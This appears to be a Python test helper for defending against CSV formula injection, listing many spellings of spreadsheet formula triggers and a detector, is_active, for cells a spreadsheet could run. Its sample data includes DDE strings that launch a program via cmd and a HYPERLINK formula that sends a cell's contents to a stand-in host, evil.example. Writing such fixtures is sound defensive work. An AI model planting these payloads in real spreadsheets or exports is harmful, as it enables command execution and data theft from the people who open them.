"""Formulas in every spelling that a spreadsheet may run, and what a cell must not be."""

from __future__ import annotations

import csv
import io
import unicodedata
from itertools import product

from helpers.payloads import PAYLOADS

_BODIES = {
    "sum": "1+1",
    "program": "cmd|' /C calc'!A0",
    "link": 'HYPERLINK("https://evil.example/?"&A1,"x")',
}
_MARKS = {
    "=": "equals", "+": "plus", "-": "minus", "@": "at", "＝": "full-width equals", "＋": "full-width plus",
    "－": "full-width minus", "＠": "full-width at", "﹦": "small equals", "﹢": "small plus", "﹣": "small minus",
    "﹫": "small at", "⁺": "raised plus", "−": "minus of mathematics",
}  # fmt: skip
_BEFORE = {
    "space": " ", "spaces": "   ", "tab": "\t", "return": "\r", "feed": "\n", "return and feed": "\r\n",
    "no-break space": "\xa0", "wide space": "\u3000", "thin space": "\u2009", "line separator": "\u2028",
    "quote": '"', "apostrophe": "'", "two apostrophes": "''", "curly quote": "\u201c", "curly apostrophe": "\u2019",
    "low quote": "\u201e", "guillemet": "«", "backtick": "`", "full-width quote": "＂", "quote and space": '" ',
    "space without width": "\u200b", "non-joiner": "\u200c", "joiner": "\u200d", "word joiner": "\u2060",
    "byte order mark": "\ufeff", "soft hyphen": "\xad", "grapheme joiner": "\u034f", "Mongolian separator": "\u180e",
    "variation selector": "\ufe0f", "Hangul filler": "\u3164", "override": "\u202e", "isolate": "\u2066",
    "mark of direction": "\u200f", "Arabic mark": "\u061c", "escape": "\x1b", "bell": "\x07", "NUL": "\x00",
    "C1": "\x9b", "delete": "\x7f", "unit separator": "\x1f", "tag": "\U000e0041", "accent": "\u0301",
    "zero width and space": "\u200b \u200d", "brace": "{",
}  # fmt: skip
_WITHIN = {
    "behind a semicolon": "x;=1+1", "behind a semicolon and a space": "x; =cmd|' /C calc'!A0",
    "behind a semicolon and a quote": 'x";"=1+1";"', "behind two semicolons": "x;;@SUM(A1)", "semicolon first": ";=1+1",
    "number behind a semicolon": "x;-1", "full width behind a semicolon": "x;＝1+1",
    "unseen behind a semicolon": "x;\u200b=1+1", "DDE": '=DDE("cmd";"/C calc";"x")', "number and program": "-2+3+cmd|' /C calc'!A0",
    "plus and words": "+963 11 and more", "minus and words": "- several", "minus alone": "-", "equals alone": "=",
}  # fmt: skip

#: By what they are called.
SPELLINGS: dict[str, str] = (
    {f"{name}, {what}": mark + body for (mark, name), (what, body) in product(_MARKS.items(), _BODIES.items())}
    | {f"behind {name}": f"{before}=1+1" for name, before in _BEFORE.items()}
    | _WITHIN
)
#: These, and all other texts that try to become more than text.
ALL = {**{f"text: {name}": text for name, text in PAYLOADS.items()}, **SPELLINGS}


def is_active(cell: str) -> bool:
    """Whether a spreadsheet could run a cell, or a part of it where it parts cells at semicolons, or a terminal obey it.

    An apostrophe as the first thing that is seen makes text of what follows; a number is none.
    """
    if any(
        unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn") and c not in "\u200c\u200d" for c in cell
    ):
        return True
    if any(joiner in cell and cell.isascii() is False and _is_latin(cell) for joiner in "\u200c\u200d"):
        return True
    return not _is_number(cell) and any(map(_begins_a_formula, cell.split(";")))


def _is_latin(cell: str) -> bool:
    return all(ord(c) < 0x590 or c in "\u200c\u200d" for c in cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return False
    return cell.isascii()


def _begins_a_formula(part: str) -> bool:
    seen = "".join(c for c in part if unicodedata.category(c)[0] not in "ZCM" and c not in "\u3164\u115f\u1160\uffa0")
    if seen.startswith("'"):
        return False
    plain = unicodedata.normalize("NFKC", seen.lstrip("\"'`{«»“”‘’„‚´′″＂＇"))
    return plain[:1] in ("=", "+", "-", "@", "−")


def cells_of_csv(text: str) -> list[str]:
    """All cells of a CSV file, its header among them."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
